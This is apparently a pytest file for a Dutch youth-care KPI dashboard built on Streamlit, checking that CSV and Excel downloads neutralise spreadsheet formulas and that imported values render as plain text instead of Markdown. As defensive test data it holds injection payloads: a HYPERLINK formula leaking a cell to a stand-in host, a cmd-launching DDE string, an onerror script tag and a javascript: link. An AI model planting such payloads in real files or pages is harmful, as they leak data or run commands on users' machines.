"""Data is always text: never a spreadsheet formula in a download (kpi/reports/downloads.py), never Markdown on
a page (kpi.presentation.format.md_tekst).

The page tests run the app (AppTest) on data an attacker could put in an export, and render what the
app sends as Markdown with a CommonMark parser (markdown-it-py, as GitHub-flavoured as Streamlit's):
no link and no image may come out. Downloads are caught where Streamlit stores them
(`MediaFileManager`), so they are the bytes a user gets.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
from markdown_it import MarkdownIt
from streamlit.runtime.media_file_manager import MediaFileManager

from kpi.data import upload
from kpi.data.upload import Upload
from kpi.presentation import format as fmt
from kpi.reports import downloads
from tests.apptest import open_app
from tests.builders import make_db
from tests.test_import import VANDAAG, geldige_tabellen, schrijf_export

LINK = "![t](http://example.invalid/x.png)"
HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
MARKDOWN = MarkdownIt("gfm-like")  # CommonMark + tables, strikethrough and bare links (linkify)


def html(markdown: str) -> str:
    return MARKDOWN.render(markdown)


def geen_link_of_plaatje(teksten: list[str]) -> None:
    for tekst in teksten:
        gerenderd = html(tekst)
        assert "<a " not in gerenderd and "<img" not in gerenderd, (tekst, gerenderd)


def markdown_van(at) -> list[str]:
    """Everything the app sent that Streamlit renders as Markdown, including st.table cells."""
    teksten = [e.value for soort in ("markdown", "caption", "error", "warning", "info", "success")
               for e in getattr(at, soort)]
    for tabel in at.table:
        teksten += [str(v) for kolom in tabel.value.columns for v in tabel.value[kolom]]
    return teksten


@pytest.fixture
def aangeboden(monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
    """The files the app offers for download in a run, by file name (a file built on click is built here)."""
    bestanden: dict[str, object] = {}
    add, add_deferred = MediaFileManager.add, MediaFileManager.add_deferred

    def vang(self, data, mimetype, coordinates, file_name=None, is_for_static_download=False):
        if file_name:
            bestanden[file_name] = data
        return add(self, data, mimetype, coordinates, file_name, is_for_static_download)

    def vang_later(self, maak, mimetype, coordinates, file_name=None, *, element_id=""):
        if file_name:
            bestanden[file_name] = maak
        return add_deferred(self, maak, mimetype, coordinates, file_name, element_id=element_id)

    monkeypatch.setattr(MediaFileManager, "add", vang)
    monkeypatch.setattr(MediaFileManager, "add_deferred", vang_later)

    class Bestanden(dict):
        def __getitem__(self, naam: str) -> bytes:
            data = bestanden[naam]
            return data() if callable(data) else data

    return Bestanden()


def xlsx_cellen(data: bytes) -> tuple[str, str]:
    """(sheet XML, shared strings XML) of the first sheet of an xlsx."""
    with zipfile.ZipFile(io.BytesIO(data)) as werkmap:
        return werkmap.read("xl/worksheets/sheet1.xml").decode(), werkmap.read("xl/sharedStrings.xml").decode()


# --------------------------------------------------------------------------- CSV injection


def test_formula_cells_get_a_quote_and_numbers_stay_numbers() -> None:
    frame = pl.DataFrame({
        "tekst": [HYPERLINK, "@SUM(A1:A9)", "+31 6 1234", "-2+3+cmd|' /C calc'!A0", "\tx", "\rx", "-3", "+4,5",
                  "12.5", "gewoon", "a=b", None],
        "getal": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12],
    })
    veilig = downloads.neutraliseer_formules(frame)
    assert veilig["tekst"].to_list() == [
        "'" + HYPERLINK, "'@SUM(A1:A9)", "'+31 6 1234", "'-2+3+cmd|' /C calc'!A0", "'\tx", "'\rx",
        "-3", "+4,5", "12.5", "gewoon", "a=b", None]  # a plain number is read as that number, never a formula
    assert veilig["getal"].to_list() == frame["getal"].to_list()
    assert downloads.csv_bytes(pl.DataFrame({"a": ["=1+1", "x"], "n": [-1, 2]})) == (
        b"\xef\xbb\xbfa;n\n'=1+1;-1\nx;2\n")


def test_excel_stores_formula_text_as_text() -> None:
    data = downloads.excel_bytes(pl.DataFrame({"a": [HYPERLINK, "@SUM(A1)"], "n": [-1, 2]}))
    blad, teksten = xlsx_cellen(data)
    assert "<f>" not in blad and "<f " not in blad  # no formula cell at all
    assert re.findall(r'<c r="A[23]"[^>]*t="s"', blad)  # both text cells are (shared) strings
    assert pl.read_excel(io.BytesIO(data))["a"].to_list() == [HYPERLINK, "@SUM(A1)"]
    assert "HYPERLINK" in teksten


def test_case_list_downloads_are_neutralised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                             aangeboden) -> None:
    """K3's open requests: a team named like a formula and a care form starting with @ (free text)."""
    teams = [{"team_id": "UTR-JB1", "cluster_id": "UTR", "naam": HYPERLINK, "soort": "jb"},
             {"team_id": "ZHL-JB1", "cluster_id": "ZHL", "naam": "JB Zuid-Holland 1", "soort": "jb"}]
    database = make_db(tmp_path, teams=teams,
                       maatregelen=[{"maatregel_id": "M1", "startdatum": "2025-05-01"}],
                       hulp=[{"hulp_id": "H1", "maatregel_id": "M1", "hulpvorm": "@SUM(1+1)",
                              "aangevraagd_op": "2025-06-02"}])
    database.close()
    at = open_app(tmp_path / "test.duckdb", monkeypatch, "pages/k3_hulpinzet.py")
    # the file name says what is in it: list, peildatum and selection (issue 12)
    naam = "k3-open-aanvragen_peildatum-30-09-2025_hele-organisatie"
    csv = aangeboden[f"{naam}.csv"].decode("utf-8-sig").splitlines()
    assert csv[0] == "Aanvraag;Maatregel;Hulpvorm;Aangevraagd op;Dagen open;Team;Cluster;Soort"
    assert csv[1] == ("H1;M1;'@SUM(1+1);02-06-2025;120;\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,"
                      "\"\"klik\"\")\";Utrecht/Flevoland;OTS")  # the quoted field holds '=HYPERLINK(...)
    blad, teksten = xlsx_cellen(aangeboden[f"{naam}.xlsx"])
    assert "<f>" not in blad and "@SUM(1+1)" in teksten and "HYPERLINK" in teksten
    assert not at.exception


def test_error_report_and_import_history_downloads_are_neutralised(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch,
                                                                   aangeboden) -> None:
    database = tmp_path / "data" / "gi.duckdb"
    database.parent.mkdir()
    goed = schrijf_export(tmp_path / "goed")
    assert upload.importeer_upload([Upload.van_pad(p) for p in goed.iterdir()], database, "@SUM(1+1)",
                                   vandaag=VANDAAG).geslaagd
    tabellen = geldige_tabellen()
    tabellen["contacten"][0]["contact_id"] = "=1+1"  # not a valid id: the report shows the value
    fout = schrijf_export(tmp_path / "fout", tabellen)
    resultaat = upload.importeer_upload([Upload.van_pad(p) for p in fout.iterdir()], database, "beheer@demo.jb",
                                        vandaag=VANDAAG)
    assert not resultaat.geslaagd

    at = open_app(database, monkeypatch, None, "beheer@demo.jb")
    at.session_state["gegevens_resultaat"] = resultaat
    at.switch_page("pages/gegevens.py").run()
    assert not at.exception, [e.value for e in at.exception]

    rapport = aangeboden["foutrapport.csv"].decode("utf-8-sig").splitlines()
    assert rapport[1].startswith("contacten.csv;2;contact_id;'=1+1;geen geldige contact_id;")
    blad, teksten = xlsx_cellen(aangeboden["foutrapport.xlsx"])
    assert "<f>" not in blad and ">=1+1<" in teksten
    historie = aangeboden["importgeschiedenis.csv"].decode("utf-8-sig").splitlines()
    assert historie[0].startswith("tijdstip;gebruiker;actie;")
    assert [regel.split(";")[1] for regel in historie[1:]] == ["beheer@demo.jb", "'@SUM(1+1)"]


# --------------------------------------------------------------------------- Markdown


@pytest.mark.parametrize("waarde", [
    LINK, "<http://example.invalid>", "www.example.invalid", "iemand@example.invalid", "[klik](javascript:x)",
    "<img src=x onerror=alert(1)>", "# kop\n- lijst", "**vet** _schuin_ `code` ~~weg~~ $x^2$", ":red[rood] :material/home:",
    "a | b\n--|--\n1 | 2", "\\![t](http://example.invalid/x.png)", "Utrecht/Flevoland", "GM0344",
])
def test_md_tekst_renders_as_the_same_text_and_nothing_else(waarde: str) -> None:
    gerenderd = html(fmt.md_tekst(waarde))
    assert gerenderd.count("<") == 2  # exactly <p> and </p>: no link, image, emphasis, code, heading or table
    zichtbaar = gerenderd.removeprefix("<p>").removesuffix("</p>\n")
    verwacht = " ".join(waarde.split()).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert zichtbaar == verwacht.replace('"', "&quot;")


def test_a_municipality_code_with_markdown_is_shown_as_text_in_the_page_header(tmp_path: Path,
                                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """The sidebar filter puts the chosen gemeente in every page header (a caption, so Markdown). The
    import refuses such a code now; the page must be safe anyway."""
    gemeenten = [{"gemeente_code": LINK, "naam": LINK, "cluster_id": "UTR"},
                 {"gemeente_code": "GM0599", "naam": "Rotterdam", "cluster_id": "ZHL"}]
    database = make_db(tmp_path, gemeenten=gemeenten,
                       maatregelen=[{"maatregel_id": "M1", "startdatum": "2025-05-01", "gemeente_code": LINK}])
    database.close()
    at = open_app(tmp_path / "test.duckdb", monkeypatch, "pages/k6_wachtrij.py", gemeente=LINK)
    assert at.selectbox(key="f_gemeente").value == LINK  # the filter is really on
    kop = next(c.value for c in at.caption if c.value.startswith("Peildatum"))
    assert fmt.md_tekst(LINK) in kop
    assert "gemeente: ![t](http://example.invalid/x.png)" in html(kop)  # shown as the text itself
    geen_link_of_plaatje(markdown_van(at))


def test_upload_report_shows_values_from_the_export_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A rejected upload: the error table (st.table renders Markdown in its cells) and the warnings hold
    values and column names from the files."""
    database = tmp_path / "data" / "gi.duckdb"
    database.parent.mkdir()
    assert upload.importeer_upload([Upload.van_pad(p) for p in schrijf_export(tmp_path / "goed").iterdir()],
                                   database, "beheer@demo.jb", vandaag=VANDAAG).geslaagd
    tabellen = geldige_tabellen()
    tabellen["gemeenten"][0]["gemeente_code"] = LINK
    tabellen["clusters"][0][LINK] = "x"  # an unknown column: a warning naming it
    map = schrijf_export(tmp_path / "fout", tabellen)
    resultaat = upload.importeer_upload([Upload.van_pad(p) for p in map.iterdir()], database, "beheer@demo.jb",
                                        vandaag=VANDAAG)
    assert LINK in {m.waarde for m in resultaat.resultaat.fouten}
    assert any(LINK in w for w in resultaat.resultaat.waarschuwingen)

    at = open_app(database, monkeypatch, None, "beheer@demo.jb")
    at.session_state["gegevens_resultaat"] = resultaat
    at.switch_page("pages/gegevens.py").run()
    assert not at.exception, [e.value for e in at.exception]
    teksten = markdown_van(at)
    geen_link_of_plaatje(teksten)
    assert any(LINK in html(t) for t in at.table[0].value["Waarde"])  # the value itself, as text
    assert any(LINK in html(t) for t in teksten if "hoort niet bij het gegevenscontract" in t)
